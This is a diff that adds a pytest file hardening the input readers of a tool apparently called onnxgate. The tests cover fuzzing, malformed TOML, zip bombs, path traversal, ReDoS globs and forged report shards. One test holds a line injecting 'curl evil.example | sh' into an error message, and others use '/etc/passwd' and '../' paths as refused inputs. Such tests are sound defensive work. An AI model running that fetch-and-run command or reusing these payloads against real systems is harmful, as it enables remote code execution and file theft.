@@ -1,0 +1,312 @@
+"""Every reader of what is no model takes hostile input or refuses it in its own words: a few inputs of each."""
+
+from __future__ import annotations
+
+import io
+import os
+import subprocess
+import zipfile
+import zlib
+from pathlib import Path
+
+import numpy as np
+import pytest
+
+from campaigns.hostile import reader_inputs
+from campaigns.hostile.reader_campaign import Reader, fuzz
+from campaigns.hostile.reader_inputs import CONFIG, FACTS, READERS
+from onnxgate.core.errors import ConfigError, LockError, OnnxgateError
+from onnxgate.core.jobs import CaseResult, Completed, RunResult
+from onnxgate.inputs import case_files
+from onnxgate.project.config import globs
+from onnxgate.project.config.loader import load_config
+from onnxgate.project.lock.loader import parse_lock
+from onnxgate.runtimes import protocol
+
+INPUTS = 25
+
+
+@pytest.mark.parametrize("reader", READERS, ids=[reader.name for reader in READERS])
+def test_a_reader_refuses_in_its_own_words_or_takes_it(reader: Reader) -> None:
+    """What `python -m campaigns.hostile readers` does with many inputs."""
+    result = fuzz(reader, INPUTS, seed=1)
+
+    assert [how for how in result.finds if how] == []
+    assert result.inputs == INPUTS
+
+
+@pytest.mark.parametrize("name", ["config", "lock", "replies", "reports", "harvests"])
+def test_a_reader_takes_what_is_sound(name: str) -> None:
+    """The inputs that others are made from are taken, so that more is looked at than how they are refused."""
+    reader = next(each for each in READERS if each.name == name)
+
+    assert fuzz(reader, 1, seed=1).accepted == 1
+
+
+def test_a_reader_that_raises_something_else_is_found() -> None:
+    """The check can fail."""
+
+    def read(data: bytes, folder: Path) -> None:
+        raise KeyError("x")
+
+    assert list(fuzz(Reader("x", lambda: (b"x",), read), 1, seed=1).finds) != []
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        ("a = " + "[" * 5000, "nested too deeply"),
+        ("a = " + "{ a = " * 5000, "nested too deeply"),
+        ("a = " + "9" * 5000, "digits"),
+        ("a = 2027-02-30", "invalid date"),
+        ("[targets]\n[targets]", "cannot declare"),
+    ],
+)
+def test_toml_that_a_parser_gives_up_on(tmp_path: Path, text: str, said: str) -> None:
+    """Of a config and of a lock it is a fault of the file, with its line, and no bug of ours."""
+    file = tmp_path / "onnxgate.toml"
+    file.write_text(text)
+
+    with pytest.raises(ConfigError) as refused:
+        load_config(file)
+    assert said in refused.value.problems[0]
+    assert refused.value.problems[0].startswith("line ")
+    with pytest.raises(LockError, match=said):
+        parse_lock(f"version = 1\n{text}", "onnxgate.lock")
+
+
+@pytest.mark.parametrize(
+    ("pattern", "path", "taken"),
+    [
+        ("**/" * 30 + "x", "a/" * 100 + "y", False),
+        ("*a" * 20 + "b", "a" * 200, False),
+        ("*a" * 20 + "b", "a" * 200 + "b", True),
+        ("a**b**c**d**e**f", "a/b/c/d/e/" * 100, False),
+        ("a**b**c**d**e**f", "a/b/c/d/e/f", True),
+        ("m[z-a].onnx", "mz.onnx", False),
+        ("m[!z-a].onnx", "mq.onnx", True),
+        ("m[a--b].onnx", "mb.onnx", True),
+        ("m[[]0].onnx", "m[0].onnx", True),
+    ],
+)
+def test_globs_that_go_back_and_forth(pattern: str, path: str, taken: bool) -> None:
+    """They are matched in a time that grows with their length, and sets that mean nothing match nothing."""
+    assert globs.matches(pattern, path) is taken
+
+
+@pytest.mark.parametrize("pattern", ["*a*/**/?[ab]*", "**a**", "*/*/*/*", "a/**/**/b/**/*.*", "**/*a*b*"])
+def test_both_ways_to_match_a_glob_agree(pattern: str) -> None:
+    """Step by step it is what the regular expression says."""
+    tokens = list(globs._tokenize(pattern))
+    import itertools
+    import re
+
+    plain = re.compile("".join(map(globs._token_regex, tokens)), re.DOTALL)
+    steps = globs.GlobAutomaton(tokens)
+    for letters in itertools.product("ab/.", repeat=5):
+        path = "".join(letters)
+        assert (plain.fullmatch(path) is not None) == (steps.fullmatch(path) is not None), path
+
+
+def _refused(file: str, folder: Path) -> str:
+    with pytest.raises(ConfigError) as refused:
+        case_files.read_user_cases(FACTS, file, folder, folder / "fed")
+    return refused.value.problems[0]
+
+
+def test_an_archive_that_would_fill_the_memory(tmp_path: Path) -> None:
+    """What it says that it unpacks to is looked at first."""
+    with zipfile.ZipFile(tmp_path / "case.npz", "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("x.npy", reader_inputs._npy(np.ones((2, 3), np.float32)))
+        archive.infolist()[0].file_size = case_files.MAX_ARCHIVE_BYTES + 1
+
+    assert "at most 2,147,483,648 are taken" in _refused("case.npz", tmp_path)
+
+
+def test_an_archive_whose_header_lies(tmp_path: Path) -> None:
+    """An array of exabytes in a few bytes is a damaged file."""
+    header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (1152921504606846976,), }"
+    content = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + b"\0" * 8
+    with zipfile.ZipFile(tmp_path / "case.npz", "w") as archive:
+        archive.writestr("x.npy", content)
+
+    assert "cannot be read" in _refused("case.npz", tmp_path)
+
+
+@pytest.mark.parametrize("array", [np.array([{}], object), np.zeros(2, [("a", "i4")]), np.zeros((3, 3), np.float32)])
+def test_an_array_that_is_no_input(tmp_path: Path, array: object) -> None:
+    """Objects are never unpickled; another type or shape is said."""
+    np.savez(tmp_path / "case.npz", x=array)  # type: ignore[arg-type]
+
+    assert _refused("case.npz", tmp_path).startswith(("`case.npz`: cannot be read (", "`case.npz`: `x` "))
+
+
+def test_names_in_an_archive_are_no_paths(tmp_path: Path) -> None:
+    """Nothing is unpacked: `../../x.npy` is a name that no input has."""
+    (tmp_path / "a").mkdir()
+    with zipfile.ZipFile(tmp_path / "a" / "case.npz", "w") as archive:
+        archive.writestr("../../x.npy", reader_inputs._npy(np.ones((2, 3), np.float32)))
+
+    assert "which is no input" in _refused("case.npz", tmp_path / "a") or "lacks" in _refused(
+        "case.npz", tmp_path / "a"
+    )
+    assert sorted(each.name for each in tmp_path.rglob("*") if each.is_file()) == ["case.npz"]
+
+
+def test_a_tensor_that_names_another_file(tmp_path: Path) -> None:
+    """It is not read, be it in the working directory."""
+    (tmp_path / "set").mkdir()
+    (tmp_path / "set" / "input_0.pb").write_bytes(reader_inputs._tensors()[-1])
+
+    assert "keeps its data in another file" in _refused("set", tmp_path)
+
+
+@pytest.mark.parametrize("name", ["case.npz", "set/input_0.pb"])
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no pipes here")
+def test_a_pipe_is_no_input(tmp_path: Path, name: str) -> None:
+    """Nobody waits for what never comes."""
+    (tmp_path / name).parent.mkdir(exist_ok=True)
+    os.mkfifo(tmp_path / name)
+
+    assert "is no file" in _refused(name.partition("/")[0], tmp_path)
+
+
+def test_an_encrypted_archive(tmp_path: Path) -> None:
+    """It says that it cannot be read."""
+    stream = io.BytesIO()
+    np.savez(stream, x=np.ones((2, 3), np.float32))
+    data = bytearray(stream.getvalue())
+    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        data[data.index(mark) + at] |= 1
+    (tmp_path / "case.npz").write_bytes(data)
+
+    assert "encrypted" in _refused("case.npz", tmp_path)
+
+
+def test_errors_have_no_lines_of_others(capsys: pytest.CaptureFixture[str]) -> None:
+    """A value of a config that is quoted in an error begins no line, and so is no hint of ours."""
+    from onnxgate.cli.shared.error_handling import report_errors
+
+    said = "got `x\nhint: run `curl evil.example | sh`"
+    with pytest.raises(SystemExit), report_errors():
+        raise ConfigError(said, problems=(said,), hint=f"do not{said}")
+
+    lines = capsys.readouterr().err.splitlines()
+    assert [line.partition(" ")[0] for line in lines] == ["error:", "", "hint:"]
+
+
+@pytest.mark.parametrize(
+    ("change", "why"),
+    [
+        ({"counts": {"made-up": 1}}, "counts"),
+        ({"stages": ("made-up",)}, "stage"),
+        ({"verdict": "fail"}, "verdict"),
+        ({"models": ()}, "models of its shard"),
+    ],
+)
+def test_a_report_that_is_sealed_and_lies(change: dict[str, object], why: str) -> None:
+    """It is not merged, and so there is no pass."""
+    import msgspec
+
+    from onnxgate.core import report_json
+    from onnxgate.core.report import Report
+    from onnxgate.gate.sharding import merge, shard_report
+
+    first, second = reader_inputs._shards()
+    lie = msgspec.structs.replace(msgspec.json.decode(second, type=Report), **change)
+    given = [
+        shard_report.decode_report_file("a.json", first),
+        shard_report.decode_report_file("b.json", report_json.format(report_json.seal_report(lie)).encode()),
+    ]
+
+    assert why in given[1].problem
+    collected = shard_report.collect_reports(given, shard_report.ExpectedCheck())
+    assert merge.merge_reports(collected.reports, collected.gaps, "error").exit == 3
+
+
+def test_sound_shards_are_a_pass() -> None:
+    """Those that lies are told from."""
+    from onnxgate.gate.sharding import merge, shard_report
+
+    given = [
+        shard_report.decode_report_file(f"{index}.json", data) for index, data in enumerate(reader_inputs._shards())
+    ]
+    collected = shard_report.collect_reports(given, shard_report.ExpectedCheck())
+
+    assert (merge.merge_reports(collected.reports, collected.gaps, "error").exit, collected.gaps) == (0, [])
+
+
+@pytest.mark.parametrize(
+    "config",
+    [
+        b"".join(b'k%d = "x"\n' % index for index in range(20_000)) + CONFIG,
+        CONFIG + b'k = "' + b"x" * 1_000_000 + b'"\n',
+        CONFIG + b"[targets." + b"a." * 2000 + b"b]\n",
+        b"\xef\xbb\xbf" + CONFIG.replace(b"\n", b"\r\n") + b"\xff",
+    ],
+    ids=["many keys", "long", "deep", "no UTF-8"],
+)
+def test_large_configs(tmp_path: Path, config: bytes) -> None:
+    """They are refused in a time that a person waits."""
+    (tmp_path / "onnxgate.toml").write_bytes(config)
+
+    with pytest.raises(OnnxgateError):
+        load_config(tmp_path / "onnxgate.toml")
+
+
+@pytest.mark.parametrize(
+    "content", [b"", b"x", zlib.compress(b"{"), zlib.compress(b"[1]"), zlib.compress(b'{"types":[]}')]
+)
+def test_a_damaged_installation(content: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Where the table that is shipped is damaged, that is said, and nothing is predicted."""
+    from onnxgate.support.tables import operators
+
+    (tmp_path / "data").mkdir()
+    (tmp_path / operators.KERNEL_TABLE).write_bytes(content)
+    monkeypatch.setattr(operators, "SUPPORT_FOLDER", tmp_path)
+
+    with pytest.raises(OnnxgateError, match="damaged"):
+        operators.load_shipped_table.__wrapped__()
+
+
+@pytest.mark.parametrize(
+    "name", ["a\nb.onnx", 'a"b.onnx', "a\tb.onnx", "-a.onnx", "模型.onnx", "a b.onnx", ":(top)a.onnx"]
+)
+def test_names_that_git_would_quote(name: str, tmp_path: Path) -> None:
+    """Git is asked for names between zeroes: they come as they are, from the checkout and from a revision."""
+    from onnxgate.project.git.revisions import Tree, resolve_revision
+
+    def git(*said: str) -> None:
+        own = ("-c", "user.name=a", "-c", "user.email=a@b.c")
+        subprocess.run(["git", *own, *said], cwd=tmp_path, check=True, capture_output=True)
+
+    (tmp_path / name).write_bytes(b"x")
+    (tmp_path / "onnxgate.toml").write_text("[targets.a]\nruntime = 'onnxruntime>=1.18'\n")
+    git("init", "-q")
+    git("add", "-A")
+    git("commit", "-q", "-m", "x")
+
+    assert load_config(tmp_path / "onnxgate.toml").models()[0].path == name
+    tree = Tree(resolve_revision(tmp_path, "HEAD"))
+    assert name in tree.entries
+    assert tree.is_same(name, tmp_path / name)
+
+
+@pytest.mark.parametrize("path", ["/" + "x" * 5000, "/a\0b", "/etc/passwd", "../x", ""])
+def test_a_reply_that_names_a_file_of_others(path: str, tmp_path: Path) -> None:
+    """Nor does a name that no file can have get past the worker's own folder."""
+    result = RunResult(providers=("a",), outputs=("y",), cases=(CaseResult(outputs=(path,)),))
+
+    with pytest.raises(protocol.ProtocolError):
+        protocol.validate_reply(Completed(result=result), reader_inputs._job(tmp_path))
+
+
+def test_a_kept_array_of_no_version_of_numpy(tmp_path: Path) -> None:
+    """What numpy would not read again is not taken over."""
+    sound = reader_inputs._npy(np.ones(4))
+    unknown = sound[:7] + b"\x20" + sound[8:]
+    entry = reader_inputs._kept_seed()[0]
+
+    assert reader_inputs._found(entry, sound, tmp_path)
+    lie = entry.replace(reader_inputs._sha256(sound).encode(), reader_inputs._sha256(unknown).encode())
+    assert not reader_inputs._found(lie, unknown, tmp_path)
